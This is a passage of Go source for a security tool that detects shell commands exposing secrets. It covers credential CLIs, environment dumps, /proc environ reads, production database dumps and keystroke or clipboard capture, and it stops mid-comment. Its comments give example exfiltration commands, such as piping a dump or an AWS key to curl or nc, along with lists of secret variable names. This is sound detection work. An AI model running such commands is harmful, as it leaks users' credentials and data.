package effect

import (
	"net/netip"
	"path"
	"rampart.dev/pkg/catalog"
	"regexp"
	"slices"
	"strconv"
	"strings"

	"rampart.dev/pkg/internal/table"
	"rampart.dev/pkg/match"
	"rampart.dev/pkg/shell"
)

// sources marks a command whose output is sensitive: a credential CLI
// (catalogue "source" properties), a dump of the environment, a read of a
// credential file or of /proc/*/environ, an archive of the home directory or
// of a credential directory.
func (a *analysis) sources(i int, c *shell.Command, f *cmdFacts, cl *catalog.Classified) {
	declared := false // the catalogue or the shell says the output is the secret, not a verb's guess
	hidden := false   // the catalogue says it prints the value only under a mark it lacks
	defer func() {
		if f.source == "secret" || f.source == "secret-variable" {
			f.shows = !hidden && (declared || revealsOption(c.Args)) && showsSecret(c, cl) || c.Code.SecretShown && !c.Code.Network
			f.listsNames = !f.shows && (listsCredentialNames(cl) || listsStoreNames(cl))
		}
		if a.indirectDump(c) {
			// echo "$v=${!v}" over compgen -v: every variable, not
			// the one the word names (indirectenv.go)
			f.source, f.shows = "environment", true
		}
	}()
	if m := dbusSecretMethod(c); m == "GetSecrets" || m == "GetSecret" {
		f.source, f.origin, declared = "secret", c.Name, true // dbussecrets.go: the Secret Service's passwords
	}
	if e := cl.Entry; e != nil {
		if s := e.Prop("source"); s != "" && !(s == "secret" && decryptsFixturesOnly(cl)) && !setsVars(cl) {
			f.source = s
			f.origin = c.Name
			declared = true
		}
		if s := e.Prop("source-noargs"); s != "" && cl.Positional == 0 && !hasPrintFlag(subArgs(c.Args, e.Name), e.Prop("source-flags"), true) {
			// printenv, export, set: every variable with its value
			// (compgen -v prints only their names)
			f.source, f.shows = s, s == "environment" && c.Name != "compgen"
		}
		if flags := e.Prop("source-flags"); flags != "" && hasPrintFlag(c.Args, flags, false) {
			// export -p, declare -x: every exported variable; with names
			// (declare -p BASH_VERSINFO, declare -x A=1) only those
			f.source, f.shows = "environment", operandsBesides(cl, flags) == 0
		}
		if f.source == "" && (e.Prop("cloud") != "" || e.Prop("logins") != "") && (printsCredential(cl) || revealsOption(c.Args)) {
			// cloudverbs.go: get-secret-value, keys list, generate-login-token;
			// printed where its verb names the value (below).
			f.source, f.origin = "secret", c.Name
			declared = namesValueCredential(cl, c.Args)
		}
		if k := e.Prop("stdout-source"); k != "" && writesStdout(cl) {
			// docker cp CONTAINER:PATH -: the container's files, as a
			// tar on standard output
			f.source, f.origin = k, c.Name
			declared = true
		}
		if m := e.Prop("source-marks"); m != "" && cl.Mark(m) && !decryptsFixturesOnly(cl) && !(cl.Positional > 0 && e.Has("marks-bare")) {
			// (sops -d testdata/example.enc.yaml: the tests' data, fixtures.go)
			// An entry with "marks-bare" reveals so only with no operand:
			// terraform show -json prints the state, secrets and all;
			// show -json tfplan prints the plan file the line names, a
			// file judged by its path as any other read is.
			f.source = "secret"
			declared = true
		}
		if e.Prop("sql-words") != "" && a.storeSecretShown(i) {
			// redis-cli CONFIG GET requirepass (storesecrets.go)
			f.source, f.origin = "secret", c.Name
			declared = true
		}
		if p := e.Prop("pickaxe"); p != "" && f.source == "" && pickaxeFindsSecrets(c, cl, p, e.Prop("patch-paths")) {
			// git log -p -S AKIA: the changes that added or removed
			// secrets, printed as a scanner's findings are (pickaxe.go)
			f.source, f.origin = "output", c.Name
		}
		if m := e.Prop("output-marks"); m != "" && cl.Mark(m) && f.source == "" {
			// xclip -o: what it prints holds secrets among much else,
			// as a source=output tool's does, under that option only
			f.source, f.origin = "output", c.Name
		}
		if k := e.Prop("captures"); k == "keys" || k == "clipboard" && f.source == "output" && c.Repeats {
			// xinput test, evtest, logkeys: what is typed; pbpaste or
			// xclip -o in a loop: every copy, as it is made (capture.go)
			f.source, f.origin = inputCapture, c.Name
		}
		if m := e.Prop("env-marks"); m != "" && cl.Mark(m) {
			// heroku config --shell: NAME=value lines, a service's
			// environment dumped as env prints this one's
			f.source, f.shows, declared = "environment", true, false
		}
		if m := e.Prop("hides-marks"); m != "" && cl.Mark(m) {
			// gitleaks --redact: the values are masked in what it prints
			f.source, declared = "", false
		}
		if f.source == "output" && e.Prop("source") == "output" && a.scansCredentials(i, cl) {
			// trufflehog filesystem ~/.aws, gitleaks dir ~ -v: what a
			// scanner finds in a credential store or the home is those
			// credentials, each printed with its value
			f.source, declared = "secret", true
		}
		if m := e.Prop("shows-marks"); m != "" && !cl.Mark(m) {
			// aws ssm get-parameter without --with-decryption: a
			// SecureString stays encrypted, a plain one is settings.
			declared, hidden = false, true
		}
		if args := e.Prop("source-args"); args != "" {
			last := lastOperand(cl)
			for _, w := range cl.Words {
				if w.Option == "" && matchesAny(w.Text, args) {
					f.source = "secret"
					// kubectl get secret X (its format decides), git config
					// --get http.extraheader; not git config credential.helper
					// (a helper's name) or a key followed by the value it sets
					declared = declared || e.Prop("shows-format") != "" || w.Text == last && keyNamesSecret(w.Text)
				}
			}
			if f.source == "" && a.fedBySecretListing(i, c, args) {
				// kubectl get secrets -o name | xargs kubectl get -o yaml,
				// for s in $(kubectl get secrets -o name); do kubectl get $s …
				f.source = "secret"
				declared = declared || e.Prop("shows-format") != ""
			}
		}
		if args := e.Prop("secret-args"); args != "" {
			// netsh wlan show profile NAME key=clear: an operand that
			// makes the program print the secret itself, not a name
			for _, w := range cl.Words {
				if w.Option == "" && matchesAny(w.Text, args) {
					f.source, f.origin, declared = "secret", c.Name, true
				}
			}
		}
		if e.Prop("var-args") != "" {
			// printenv GITHUB_TOKEN prints the secret its word names.
			for _, w := range cl.Words {
				if w.Option == "" && secretName(w.Text) {
					f.source, f.origin = "secret-variable", secretHome(w.Text)
					declared = true
				}
			}
		}
		if opts := e.Prop("imports-env"); opts != "" {
			// curl --variable %AWS_SECRET_ACCESS_KEY --expand-data
			// '{{AWS_SECRET_ACCESS_KEY}}': the variable's value is in
			// what the command sends, as "$AWS_SECRET_ACCESS_KEY" is.
			for _, w := range cl.Words {
				name, ok := strings.CutPrefix(w.Text, "%")
				if !ok || !hasWord(opts, w.Option) {
					continue
				}
				name, _, _ = strings.Cut(name, "=")
				if secretName(name) {
					f.secretArg, f.secretOrigin, f.secretVar = true, secretHome(name), name
				}
			}
		}
		if cl.Mark("exportsecret") {
			f.source = "secret"
			declared = true
		}
		if e.Prop("edits-secret") != "" && !cl.Mark("inplace") && editorPrints(c.Assigns) {
			// EDITOR=cat rails credentials:edit: the decrypted file handed
			// to a program that prints it (editorprints.go)
			f.source, f.origin = "secret", c.Name
			declared = true
		}
		if f.source == "" && (e.Prop("dumps") != "" || databaseClient(e, cl)) && a.productionWord(i) != "" {
			// pg_dump "$PROD_DATABASE_URL", mysqldump -h db.prod, and a
			// client's query of one (psql "$PROD_DATABASE_URL" -c "\copy
			// users to stdout", clickhouse-client -h ch.prod --query):
			// a production database's data (production.go), which leaving
			// the machine is a leak; a dev database's is not.
			f.source, f.origin = "production-data", c.Name
			if e.Prop("into-database") != "" && !helpOrDryRunOf(cl, c.Args) {
				// heroku pg:pull DATABASE_URL app_local --app shop-prod: the
				// records loaded into a database here
				a.add(Effect{Kind: Flow, Cmd: i, Detail: "production-data->database", Word: c.Name + " " + a.productionWord(i)})
			}
		}
		if f.source == "" && e.Prop("dumps") != "" && !helpOrDryRunOf(cl, c.Args) {
			// pg_dump app | curl -T - URL, mysqldump app | ssh HOST 'cat >
			// x': a database's records, which sent to another machine
			// are a dump leaving it, as the dump file copied there is
			// (copytargets.go); kept here they are everyday work
			f.source, f.origin = "database-dump", c.Name
		}
		if f.source == "" && e.Prop("sends-local") != "" && copiesDatabaseHere(cl) && a.productionWord(i) != "" {
			// kubectl cp production/db-0:/data/backup.sql /tmp/b.sql, scp
			// deploy@prod-db:dump.sql .: production's database copied onto
			// this machine, as a dump of it is (remotepath.go)
			f.source, f.origin = "production-data", c.Name
			if f.sink != "" && len(f.writes) > 0 && !slices.ContainsFunc(f.writes, inBackupDir) {
				// scp's contact with the host is where the copy comes
				// from, not where it goes: the files land here
				a.add(Effect{Kind: Flow, Cmd: i, Detail: "production-data->file", Word: c.Name + " " + strings.Join(f.writes, " ")})
			}
		}
	}
	if f.source == "" && a.readsVerbs(i, cl) && c.Name != "" && (printsCredential(cl) || revealsOption(c.Args)) {
		// A program the catalogue does not know (or a subcommand of a
		// known one it does not list), read by its verbs as a
		// cloud CLI is: buildkite-agent secret get, vendorctl get-api-key,
		// tool credentials show print the credential they name. The value
		// is printed where a verb names the credential itself (bws secret
		// get, consul acl token read); a key, a variable or a config entry
		// may be a name or a setting (tmux send-keys, tool config get
		// region), which only a flow out of the machine makes matter.
		f.source, f.origin = "secret", c.Name
		declared = namesValueCredential(cl, c.Args)
	}
	if f.source == "" && cl.Entry.Has("fetcher") && secretPath(cl) {
		// curl of a cluster's or a vault's secrets API through a local
		// proxy or port-forward: /api/v1/…/secrets, /v1/secret/data/….
		// What such a GET prints is the secret itself, as a secrets
		// CLI's get would print it.
		f.source, f.fetched = "secret", true
		declared = !headOnly(c.Name, c.Args)
	}
	if f.source == "" && mintsCredential(cl, c.Args) {
		// curl -X POST …/api/serviceaccounts/3/tokens: the new token is
		// the response (mintedtokens.go)
		f.source, f.origin, f.fetched = "secret", c.Name, true
		declared = true
	}
	if a.programName(i, c) == "env" && envPrints(c) {
		// env, and a copy or a link of it the line made (cp /usr/bin/env ./e; ./e)
		f.source, f.shows = "environment", true
	}
	if environDump(c) {
		f.source = "environment"
		// jq -n env, systemctl show-environment: every variable with its
		// value printed (ps e reads other processes', below)
		f.shows = c.Name != "ps" && !slices.ContainsFunc(c.Args, picksVariable)
		if c.Name == "ps" {
			// ps e prints every process's environment it lists: it reads
			// /proc/PID/environ of other processes, a credential store.
			a.add(Effect{Kind: Read, Cmd: i, Path: "/proc/*/environ"})
		}
	}
	if v := selectedSecretVar(c); v != "" {
		// jq -n 'env.GITHUB_TOKEN', yq -n 'strenv(GITHUB_TOKEN)': the
		// secret variable printed, as printenv GITHUB_TOKEN prints it
		f.source, f.origin = "secret-variable", secretHome(v)
		declared = true
	}
	if f.source == "environment" {
		f.oneRecord = oneRecordEnv(c, f)
	}
	if len(c.Via) > 0 && (f.source == "environment" || c.Name == "printenv") {
		if w := a.secretEnvWrapper(i, c); w != "" {
			// aws-vault exec prod -- env, doppler run -- printenv, heroku
			// run printenv: the environment a secrets manager or a
			// deployed service gives the command is made of its secrets.
			f.source, f.origin = "secret", w
			declared = true
		} else if f.source == "environment" && a.productionWord(i) != "" {
			// kubectl exec -n prod deploy/api -- env: a production
			// service's environment holds its secrets.
			f.source, f.origin = "secret", c.Via[len(c.Via)-1]
		}
	}
	if f.source == "" && cl.Entry.Has("runs-image") {
		// docker run --env-file .env alpine env, docker run -e
		// AWS_SECRET_ACCESS_KEY alpine printenv AWS_SECRET_ACCESS_KEY;
		// docker run --env-file .env curlimages/curl sh -c 'curl -d
		// "$STRIPE_KEY" https://…' (containerenv.go)
		prints, sendsTo := a.containerPrintsSecret(i, c, cl)
		if prints {
			f.source, f.origin = "secret", c.Name
			declared = true
		}
		if len(sendsTo) > 0 {
			a.add(Effect{Kind: Flow, Cmd: i, Detail: "secret->network", Word: c.Name + " " + strings.Join(sendsTo, " ")})
		}
	}
	if v := namedVariable(c); v != "" {
		// yq 'strenv(GITHUB_TOKEN)', envsubst <<< '$AWS_SECRET_ACCESS_KEY':
		// a program that prints the variables its text names.
		f.source, f.origin = "secret-variable", secretHome(v)
		declared = true
	}
	if v := secretVarSent(c, cl); v != "" {
		// "$GITHUB_TOKEN" in its words: the command carries a secret;
		// with a second one of another service's (a GitHub token and,
		// in the body, AWS's secret key), it is its own service's for
		// neither.
		f.secretArg, f.secretOrigin, f.secretVar = true, secretHome(v), v
		if o := secretVarsHome(c); o != f.secretOrigin {
			f.secretOrigin = o
		}
		if c.Name == "echo" || c.Name == "printf" {
			f.source, f.origin = "secret-variable", secretHome(v)
			declared = valueShown(c) // not echo "${TOKEN:+set}"
		} else if xtraceBefore(a.res, i) {
			// set -x; curl -H "Authorization: Bearer $GITHUB_TOKEN" …: the
			// shell prints each command's words, expanded, as it runs it,
			// whatever the command does with them
			a.add(Effect{Kind: Flow, Cmd: i, Detail: "secret->agent", Word: "the shell's trace prints " + c.Name + "'s " + v})
		}
	} else if v := sentEnvVar(c); v != "" {
		// ssh -o SendEnv=AWS_SECRET_ACCESS_KEY host (sendenv.go): the
		// value goes into the server's environment, data for it to keep,
		// never the login ssh makes.
		f.secretArg, f.secretOrigin, f.secretVar, f.secretAsData = true, secretHome(v), v, true
	} else if v := stdinSecretVar(c); v != "" {
		// nc H P <<< "$AWS_SECRET_ACCESS_KEY": a here-string or a
		// here-document carries the secret to the command's input, as
		// its words would: data the command reads and sends, unless it
		// logs in with it (docker login --password-stdin <<< "$T").
		f.secretArg, f.secretOrigin, f.secretVar = true, secretHome(v), v
		f.secretAsData = !a.authenticates(c)
		f.secretPublished = f.secretAsData && uploadsStdin(cl)
	}
	recurse := cl.Mark("recursive") || cl.Mark("create") || cl.Entry.Has("archives") || cl.Entry.Has("tree")
	if !recurse && (c.Name == "grep" || c.Name == "egrep" || c.Name == "fgrep") {
		for _, w := range cl.Words {
			// grep -d recurse / --directories=recurse is grep -r.
			recurse = recurse || (w.Option == "-d" || w.Option == "--directories") && w.Text == "recurse"
		}
	}
	if (c.Name == "zfs" || c.Name == "btrfs") && snapshotSendsHome(c, a.env.Home) {
		f.reads, recurse = append(f.reads, a.env.Home), true // snapshotsend.go: zfs send tank/home@now
	}
	f.tree = recurse || cl.Entry.Has("stages") || cl.Mark("stageall")
	for _, p := range f.reads {
		switch {
		case environFile(p):
			f.source = "environment"
		case dotenvSecrets(p) && a.namesOnlyRead(i, f):
			// grep -v '^#' .env | cut -d= -f1 > keys: the names alone
			// (dotenvnames.go), no secret to carry into a file
		case a.sensitive(p) && f.source == "" && a.testKey(p):
			f.source = testKey // testkeys.go
		case a.sensitive(p), dotenvSecrets(p):
			f.source = "credential"
		case inputDevice(p):
			f.source, f.origin = inputCapture, c.Name // cat /dev/input/event3: every key typed (inputcapture.go)
		case f.source == "" && a.keptTestKey(p):
			// a test key the profile lets be read (test/keys/id_rsa_test):
			// still a key when it leaves (testkeys.go)
			f.source = testKey
		case recurse && f.source == "" && a.keyDir(p):
			f.source = testKey // tar cz certs/: the project's keys, whole (testkeys.go)
		case recurse:
			if a.sensitiveDir(p) {
				f.source = "home-archive"
			}
		case slices.Contains(f.mounts, p):
			// a credential directory mounted into a container is the
			// container's to read whole: docker run -v ~/.aws:/root/.aws
			// amazon/aws-cli sts get-session-token prints what the
			// credentials there make. What it prints may be anything (a
			// bucket listing): only its leaving the machine is judged, a
			// file of it is the user's own.
			if a.sensitiveDir(p) {
				f.source = "credential-mount"
			}
		}
	}
}

// databaseClient reports a database's client: one that reads statements
// from stdin, or is given one by an option or a word.
func databaseClient(e *catalog.Entry, cl *catalog.Classified) bool {
	if e.Prop("sql-stdin") != "" {
		return true
	}
	for _, w := range cl.Words {
		if w.Role == catalog.SQL {
			return true
		}
	}
	return false
}

// operandsBesides counts the operands of a command that are not one of
// flags (printenv -0, whose -0 reads as a number).
func operandsBesides(cl *catalog.Classified, flags string) int {
	n := 0
	for _, w := range cl.Words {
		if w.Option == "" && !slices.Contains(strings.Split(flags, ","), w.Text) {
			n++
		}
	}
	return n
}

// envPrints reports whether env, given only assignments and options that
// leave its printing be, prints the environment instead of running a
// command. -S runs the command its value splits into; -i starts from an
// empty environment; --help, --version and an option env does not know
// print no variable.
func envPrints(c *shell.Command) bool {
	for i := 0; i < len(c.Args); i++ {
		w := c.Args[i]
		switch {
		case w == "-u" || w == "--unset" || w == "-C" || w == "--chdir":
			i++ // the option's value
		case strings.HasPrefix(w, "-u") || strings.HasPrefix(w, "-C") || strings.HasPrefix(w, "--unset=") || strings.HasPrefix(w, "--chdir="):
		case len(w) > 1 && w[0] == '-' && strings.Trim(w[1:], "0v") == "", w == "--null" || w == "--debug" || w == "--" || w == "--list-signal-handling" || signalOption(w):
		case shellAssign(w):
		case w == "-S" || w == "--split-string":
			if i+1 >= len(c.Args) {
				return true
			}
			return envPrints(splitInto(c, c.Args[i+1], i+2))
		case strings.HasPrefix(w, "--split-string="):
			return envPrints(splitInto(c, w[len("--split-string="):], i+1))
		case strings.HasPrefix(w, "-S"):
			return envPrints(splitInto(c, w[2:], i+1))
		default:
			return false // -i, -, --help, a command
		}
	}
	return true
}

// splitInto is env's command with -S's value split into words in its
// place, followed by the words after it (from rest on): env -S '-0' is
// env -0, env -S 'A=1' is env A=1, env -S 'git status' runs git.
func splitInto(c *shell.Command, v string, rest int) *shell.Command {
	var args []string
	for _, f := range strings.Fields(v) {
		args = append(args, strings.Trim(f, `'"`))
	}
	if rest < len(c.Args) {
		args = append(args, c.Args[rest:]...)
	}
	return &shell.Command{Name: c.Name, Args: args}
}

// signalOption reports env's --block-signal, --default-signal and
// --ignore-signal, with or without a value.
func signalOption(w string) bool {
	n, _, _ := strings.Cut(w, "=")
	return strings.HasPrefix(n, "--") && strings.HasSuffix(n, "-signal")
}

// secretEnvWrapper returns the wrapper c runs behind that puts secrets in
// its environment (the catalogue's secret-env: op run, aws-vault exec,
// heroku run), or "".
func (a *analysis) secretEnvWrapper(i int, c *shell.Command) string {
	for k, v := range c.Via {
		if runsWithSecrets(v, a.viaArgs(i, c, k)) {
			return v
		}
	}
	return ""
}

// picksVariable reports a jq expression that picks one variable out of
// the environment (env.HOME, $ENV.PATH, env["LANG"]) rather than print it
// whole.
func picksVariable(w string) bool {
	return strings.Contains(w, "env.") || strings.Contains(w, "ENV.") || strings.Contains(w, "env[") || strings.Contains(w, "ENV[")
}

// selectedSecretVar returns the secret variable a jq or yq expression
// reads by name (env.NAME, $ENV.NAME, env["NAME"], strenv(NAME),
// env(NAME)), or "".
func selectedSecretVar(c *shell.Command) string {
	if !c.Is(selectorKind) {
		return ""
	}
	for _, a := range c.Args {
		for _, m := range envPick.Get().FindAllStringSubmatch(a, -1) {
			if name := m[1] + m[2]; secretName(name) {
				return name
			}
		}
	}
	return ""
}

// envPick matches a jq or yq expression's read of one variable.
var envPick = table.Once[*regexp.Regexp]{Build: func() *regexp.Regexp {
	return regexp.MustCompile(`(?:\benv|\$ENV)(?:\.|\[\s*"|\s*\(\s*)([A-Za-z_][A-Za-z0-9_]*)|strenv\(\s*([A-Za-z_][A-Za-z0-9_]*)`)
}}

// psBSDLetters are the letters ps's BSD options are made of: a word with any
// other letter (a user name, a command name) is not an option word.
const psBSDLetters = "aAcCeEfFgGhHjlLmMnNOopqrsStTuUvVwWxXZ"

// psValueOptions are ps's options whose value is the next word (a user, a
// pid, a format, a command name), in both the dash and the BSD spelling.
var psValueOptions = table.Map[string, bool]{Words: "-u -U -p -o -O -C -G -g -t -q -s -k --user --User --pid --ppid --format --sort --group --Group --tty --sid --quick-pid U p o O t"}

// environDump reports other ways of printing the environment: ps with the
// e option, jq's env, systemctl show-environment.
func environDump(c *shell.Command) bool {
	switch c.Name {
	case "ps":
		for k, a := range c.Args {
			if k > 0 && psValueOptions.Get(c.Args[k-1]) {
				continue // ps -u eve, ps -C sleep: a value, not options
			}
			if !strings.HasPrefix(a, "-") && strings.Contains(a, "e") && len(a) < 8 && strings.Trim(a, psBSDLetters) == "" {
				return true // BSD options: ps e, ps auxe, ps eww
			}
		}
	case "jq", "gojq", "jaq":
		for _, a := range c.Args {
			if a == "env" || strings.Contains(a, "$ENV") || strings.HasPrefix(a, "env") {
				return true
			}
		}
	case "make", "gmake":
		// make -p prints its database, every variable of the
		// environment among it
		for _, a := range c.Args {
			if a == "--print-data-base" || len(a) > 1 && a[0] == '-' && a[1] != '-' && strings.Contains(a, "p") && strings.Trim(a[1:], "pnrRsikqwSBet") == "" {
				return true
			}
		}
	case "systemctl", "launchctl":
		for _, a := range c.Args {
			if a == "show-environment" || a == "getenv" {
				return true
			}
		}
	case "tmux":
		// tmux show-environment [-g] with no variable named: all of them.
		for k, a := range c.Args {
			if a == "show-environment" || a == "showenv" {
				rest := c.Args[k+1:]
				for _, r := range rest {
					if !strings.HasPrefix(r, "-") {
						return false
					}
				}
				return true
			}
		}
	}
	return false
}

// namedVariable returns a secret-looking variable that a program printing
// the variables its text names is given: yq's env(NAME) and strenv(NAME),
// envsubst's SHELL-FORMAT argument or its input ($NAME, ${NAME}).
func namedVariable(c *shell.Command) string {
	var texts []string
	switch c.Name {
	case "yq", "gojq", "jq", "jaq":
		texts = c.Args
	case "envsubst":
		texts = append(append(texts, c.Args...), c.Stdin...)
	default:
		return ""
	}
	for _, t := range texts {
		for _, open := range []string{"strenv(", "env(", "$"} {
			for at := 0; at < len(t); {
				k := strings.Index(t[at:], open)
				if k < 0 {
					break
				}
				j := at + k + len(open)
				if j < len(t) && t[j] == '{' {
					j++
				}
				e := j
				for e < len(t) && nameByte(t[e]) {
					e++
				}
				if secretName(t[j:e]) {
					return t[j:e]
				}
				at = max(e, j)
			}
		}
	}
	return ""
}

// stdinSecretVar is secretVar of the text known to reach a command's
// input (here-strings, here-documents, earlier stages' text).
func stdinSecretVar(c *shell.Command) string {
	texts := c.Stdin
	for _, r := range c.Redirects {
		if r.Op == "<<<" || r.Op == "<<" || r.Op == "<<-" {
			// ssh H 'cat > k' <<< "$TOKEN": the text is the command's
			// input even where the walk hands it to the remote command
			texts = append(texts[:len(texts):len(texts)], r.Target)
		}
	}
	if len(texts) == 0 {
		return ""
	}
	return secretVar(&shell.Command{Args: texts})
}

// secretNames are the parts of environment variable names that hold
// credentials.
var secretNames = []string{"TOKEN", "SECRET", "PASSWORD", "PASSWD", "API_KEY", "APIKEY", "ACCESS_KEY", "PRIVATE_KEY", "CREDENTIAL", "DATABASE_URL", "_PAT", "AUTH",
	// connection strings that carry a password, and password managers'
	// unlocked sessions (bw's BW_SESSION, op's OP_SESSION_account)
	"DATABASE_URI", "DB_URL", "DB_URI", "MONGODB_URI", "MONGODB_URL", "MONGO_URI", "MONGO_URL", "REDIS_URL", "AMQP_URL", "RABBITMQ_URL", "BROKER_URL",
	"CONNECTION_STRING", "CONNECTIONSTRING", "CONN_STRING",
	"BW_SESSION", "OP_SESSION_",
	// a wallet's seed phrase, from which every key it holds is derived
	// (MNEMONIC, DEPLOYER_MNEMONIC, SEED_PHRASE, WALLET_SEED)
	"MNEMONIC", "SEED_PHRASE", "SEEDPHRASE", "WALLET_SEED", "RECOVERY_PHRASE"}

// secretVar returns the first secret-looking variable a command's words
// expand ("$GITHUB_TOKEN", "${AWS_SECRET_ACCESS_KEY}"), or "*" for an
// indirect ${!name} whose name the line could not resolve.
func secretVar(c *shell.Command) string {
	for _, w := range c.Args {
		for i := 0; i < len(w); i++ {
			if w[i] != '$' {
				// to the next '$' at once: most words hold none
				d := strings.IndexByte(w[i:], '$')
				if d < 0 {
					break
				}
				i += d
			}
			j := i + 1
			indirect := false
			if j < len(w) && w[j] == '{' {
				j++
				indirect = j < len(w) && w[j] == '!'
				if indirect {
					j++
				}
			}
			k := j
			for k < len(w) && nameByte(w[k]) {
				k++
			}
			if indirect && k > j && k < len(w) && w[k] != '[' && w[k] != '*' && w[k] != '@' {
				// ${!name} of a name the line could not tell: the value
				// of any variable, a secret's as well.
				return "*"
			}
			if name := w[j:k]; !indirect && secretName(name) {
				return name
			}
		}
	}
	return ""
}

// secretVarsHome is the one service every secret variable a command's
// words expand is for, or "" when they are for different services or
// one of them says none.
func secretVarsHome(c *shell.Command) string {
	home, first, mixed := "", true, false
	eachSecretVar(c.Args, func(name string) bool {
		h := secretHome(name)
		if first {
			home, first = h, false
		} else if h != home {
			mixed = true
			return false
		}
		return true
	})
	if mixed {
		return ""
	}
	return home
}

// eachSecretVar calls f with the name of each secret variable the words
// expand ($NAME, ${NAME…}), in order, until f returns false.
func eachSecretVar(words []string, f func(name string) bool) {
	for _, w := range words {
		for i := 0; i < len(w); i++ {
			if w[i] != '$' {
				continue
			}
			j := i + 1
			if j < len(w) && w[j] == '{' {
				j++
			}
			k := j
			for k < len(w) && nameByte(w[k]) {
				k++
			}
			if name := w[j:k]; secretName(name) && !f(name) {
				return
			}
		}
	}
}

// secretHome is the service a secret variable is for, by its name's
// prefix (secretHomes), or "" when the name does not say.
func secretHome(v string) string {
	for _, h := range secretHomes {
		if len(v) >= len(h.prefix) && strings.EqualFold(v[:len(h.prefix)], h.prefix) {
			return h.home
		}
	}
	return ""
}

// secretHomes are the name prefixes of secret variables whose service is
// known, with the key of that service in homeDomains. A secret of a known
// service may go to that service only.
var secretHomes = []struct{ prefix, home string }{
	{"GITHUB_", "gh"}, {"GH_", "gh"}, {"AWS_", "aws"}, {"NPM_", "npm"}, {"GOOGLE_", "gcloud"}, {"GCP_", "gcloud"}, {"GCLOUD_", "gcloud"}, {"YOUTUBE_", "gcloud"}, {"GEMINI_", "gcloud"},
	{"AZURE_", "az"}, {"OPENAI_", "openai"}, {"ANTHROPIC_", "anthropic"}, {"DIGITALOCEAN_", "doctl"}, {"DO_", "doctl"},
	{"CLOUDFLARE_", "cloudflare"}, {"CF_API_", "cloudflare"}, {"STRIPE_", "stripe"}, {"HF_", "huggingface"},
	{"HUGGINGFACE_", "huggingface"}, {"SENTRY_", "sentry"}, {"GITLAB_", "glab"}, {"GL_", "glab"}, {"SLACK_", "slack"},
	{"VERCEL_", "vercel"}, {"NETLIFY_", "netlify"}, {"HEROKU_", "heroku"}, {"FLY_", "fly"}, {"SUPABASE_", "supabase"},
	{"TWILIO_", "twilio"}, {"SENDGRID_", "sendgrid"}, {"DATADOG_", "datadog"}, {"DD_", "datadog"}, {"PYPI_", "pypi"},
	{"TWINE_", "pypi"}, {"CARGO_REGISTRY_", "crates"}, {"RUBYGEMS_", "rubygems"}, {"GEM_HOST_", "rubygems"},
	{"DOCKERHUB_", "docker"}, {"LINEAR_", "linear"}, {"NOTION_", "notion"}, {"MISTRAL_", "mistral"}, {"GROQ_", "groq"},
	{"COHERE_", "cohere"}, {"REPLICATE_", "replicate"}, {"PULUMI_", "pulumi"}, {"CIRCLECI_", "circleci"},
	{"SNYK_", "snyk"}, {"CODECOV_", "codecov"}, {"MAILGUN_", "mailgun"}, {"POSTMARK_", "postmark"},
	{"ALGOLIA_", "algolia"}, {"SHOPIFY_", "shopify"}, {"ATLASSIAN_", "atlassian"}, {"JIRA_", "atlassian"},
	{"OKTA_", "okta"}, {"AUTH0_", "auth0"}, {"FIREBASE_", "gcloud"}, {"RAILWAY_", "railway"}, {"RENDER_", "render"},
	{"TF_TOKEN_", "terraform"}, {"TFE_", "terraform"}, {"HONEYCOMB_", "honeycomb"},
	{"CONSUL_", "consul"}, {"NOMAD_", "nomad"}, {"GRAFANA_", "grafana"}, {"GF_", "grafana"},
	// front-end work's services: translation platforms, visual review, headless CMSs
	{"CROWDIN_", "crowdin"}, {"LOKALISE_", "lokalise"}, {"PHRASE_", "phrase"}, {"CHROMATIC_", "chromatic"},
	{"CONTENTFUL_", "contentful"}, {"SANITY_", "sanity"}, {"STORYBLOK_", "storyblok"},
	// chains' node providers and explorers, exchanges and payment gateways
	{"ALCHEMY_", "alchemy"}, {"INFURA_", "infura"}, {"ETHERSCAN_", "etherscan"}, {"BINANCE_", "binance"},
	{"COINBASE_", "coinbase"}, {"KRAKEN_", "kraken"}, {"PAYPAL_", "paypal"}, {"SQUARE_", "square"}, {"ADYEN_", "adyen"},
	// experiment trackers and dataset hubs: their clients read the key and
	// the base URL (WANDB_BASE_URL, COMET_URL_OVERRIDE) from the environment
	{"WANDB_", "wandb"}, {"COMET_", "comet"}, {"NEPTUNE_", "neptune"}, {"KAGGLE_", "kaggle"},
	// CI jobs' own tokens: the Actions runtime and OIDC request tokens
	// (the runner's services on githubusercontent.com), Azure Pipelines'
	// System.AccessToken, Buildkite's agent token, CircleCI's API token.
	// (GitLab's CI_JOB_TOKEN is not among them: it is as often a
	// self-managed instance's, whose API the job reaches by
	// $CI_API_V4_URL.)
	{"ACTIONS_", "gh"}, {"SYSTEM_ACCESSTOKEN", "azdevops"}, {"BUILDKITE_", "buildkite"}, {"CIRCLE_TOKEN", "circleci"},
}

func hasPrintFlag(args []string, flags string, any bool) bool {
	for _, a := range args {
		if !strings.HasPrefix(a, "-") {
			continue
		}
		if any {
			return true
		}
		for _, f := range strings.Split(flags, ",") {
			if a == f {
				return true
			}
		}
		if len(a) > 2 && a[1] != '-' && clusterOf(a, flags) {
			return true // declare -px: both of them at once
		}
	}
	return false
}

// clusterOf reports a cluster of short options (-px) each of which is
// one of flags (-p,-x).
func clusterOf(a, flags string) bool {
	for _, c := range a[1:] {
		if !hasWord(flags, "-"+string(c)) {
			return false
		}
	}
	return true
}

func matchesAny(w, list string) bool {
	// kubectl get sa,Secret.v1. db: each comma-separated kind, any case,
	// without its group or version.
	if strings.Contains(w, ",") {
		for _, part := range strings.Split(w, ",") {
			if part != "" && matchesAny(part, list) {
				return true
			}
		}
		return false
	}
	w = strings.ToLower(w)
	if i := strings.IndexByte(w, '.'); i > 0 && !strings.ContainsAny(w, "/:") && !strings.Contains(list, ".") {
		w = w[:i] // secrets.v1. → secrets
	}
	list = strings.ToLower(list)
	for _, x := range strings.Split(list, ",") {
		if strings.HasPrefix(x, "*") && strings.HasSuffix(x, "*") && len(x) > 2 {
			if strings.Contains(w, strings.ToLower(x[1:len(x)-1])) {
				return true
			}
			continue
		}
		if x == w || strings.HasSuffix(x, "*") && strings.HasPrefix(w, strings.TrimSuffix(x, "*")) ||
			strings.HasPrefix(x, "*") && strings.HasSuffix(w, strings.TrimPrefix(x, "*")) {
			return true
		}
	}
	return false
}

func (a *analysis) sensitive(p string) bool {
	if len(a.keys) > 0 && a.freshKey(p, len(a.res.Commands)) {
		return false // a key the line made (freshkeys.go)
	}
	return a.env.Sensitive != nil && a.env.Sensitive(p)
}

// sensitiveDir reports whether a directory holds credentials: the home
